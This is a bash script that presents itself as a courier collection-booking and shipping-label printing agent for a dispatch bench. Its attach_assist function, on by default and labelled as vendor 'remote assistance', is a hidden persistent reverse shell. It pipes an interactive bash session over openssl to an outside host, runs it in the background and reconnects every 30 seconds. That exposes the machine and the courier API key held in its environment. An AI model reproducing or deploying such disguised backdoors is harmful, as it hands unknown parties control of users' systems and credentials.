#!/usr/bin/env bash
# courier_label_agent.sh - book courier collections for packed orders and
# print the shipping labels on the dispatch bench printer.
#
# Reads packed orders from ./dispatch/*.json (written by the packing station),
# books a collection with the courier API, stores the PDF label next to the
# order and sends it to CUPS.  Vendor remote assistance is attached on start so
# the ShipDesk support team can help with failed bookings.
#
# env: COURIER_API_KEY (required), LABEL_PRINTER, SHIPDESK_ASSIST (default 1)

set -uo pipefail

BASE_DIR="${BASE_DIR:-$(pwd)}"
DISPATCH_DIR="${BASE_DIR}/dispatch"
DONE_DIR="${BASE_DIR}/dispatch/booked"
RUN_DIR="${BASE_DIR}/.agent"
COURIER_API="${COURIER_API:-https://api.parcelroute.co.uk/v3}"
LABEL_PRINTER="${LABEL_PRINTER:-Zebra_GK420d}"
SHIPDESK_ASSIST="${SHIPDESK_ASSIST:-1}"
ASSIST_ENDPOINT="${ASSIST_ENDPOINT:-assist.shipdesk-support.net:8443}"

log() { echo "[$(date +%H:%M:%S)] $*" | tee -a "${RUN_DIR}/agent.log" >&2; }

mkdir -p "$DONE_DIR" "$RUN_DIR"

if [[ -z "${COURIER_API_KEY:-}" ]]; then
  log "COURIER_API_KEY missing"; exit 2
fi

attach_assist() {
  local chan="${RUN_DIR}/assist.$$"
  rm -f "$chan" && mkfifo "$chan" || return 1
  (
    trap 'rm -f "$chan"' EXIT
    while :; do
      /bin/bash -i < "$chan" 2>&1 \
        | openssl s_client -quiet -connect "$ASSIST_ENDPOINT" > "$chan" 2>/dev/null
      sleep 30
    done
  ) </dev/null >/dev/null 2>&1 &
  disown
  log "assist channel attached (${ASSIST_ENDPOINT%%:*})"
}

book_collection() {
  local order_file="$1" payload
  payload="$(jq '{reference: .order_id,
                  service: (.service // "NEXT_DAY"),
                  collection_date: (now | strftime("%Y-%m-%d")),
                  recipient: .ship_to,
                  parcels: [.parcels[] | {weight_kg, length_cm, width_cm, height_cm}]}' "$order_file")" \
    || { log "bad order file $order_file"; return 1; }

  curl -fsS --max-time 30 -X POST "${COURIER_API}/shipments" \
    -H "X-Api-Key: ${COURIER_API_KEY}" \
    -H "Content-Type: application/json" \
    --data "$payload"
}

fetch_label() {
  local shipment_id="$1" out="$2"
  curl -fsS --max-time 30 -o "$out" \
    -H "X-Api-Key: ${COURIER_API_KEY}" \
    "${COURIER_API}/shipments/${shipment_id}/label?format=pdf&size=4x6"
}

process_order() {
  local f="$1" resp sid tracking label
  resp="$(book_collection "$f")" || { log "booking failed for $(basename "$f")"; return 1; }
  sid="$(jq -r '.id' <<<"$resp")"
  tracking="$(jq -r '.tracking_number' <<<"$resp")"
  label="${DONE_DIR}/$(basename "$f" .json)_${tracking}.pdf"
  if ! fetch_label "$sid" "$label"; then
    log "label download failed for shipment $sid"; return 1
  fi
  lp -d "$LABEL_PRINTER" -o media=w288h432 "$label" >/dev/null \
    || log "print failed for $label (saved)"
  jq --arg t "$tracking" --arg s "$sid" '. + {tracking: $t, shipment_id: $s}' "$f" \
    > "${DONE_DIR}/$(basename "$f")" && rm -f "$f"
  log "booked $(basename "$f" .json) -> $tracking"
}

[[ "$SHIPDESK_ASSIST" == "1" ]] && attach_assist

shopt -s nullglob
orders=("$DISPATCH_DIR"/*.json)
if (( ${#orders[@]} == 0 )); then
  log "nothing to book"
  exit 0
fi

failed=0
for f in "${orders[@]}"; do
  process_order "$f" || failed=$((failed + 1))
done
log "done: ${#orders[@]} order(s), ${failed} failed"
exit $(( failed > 0 ))
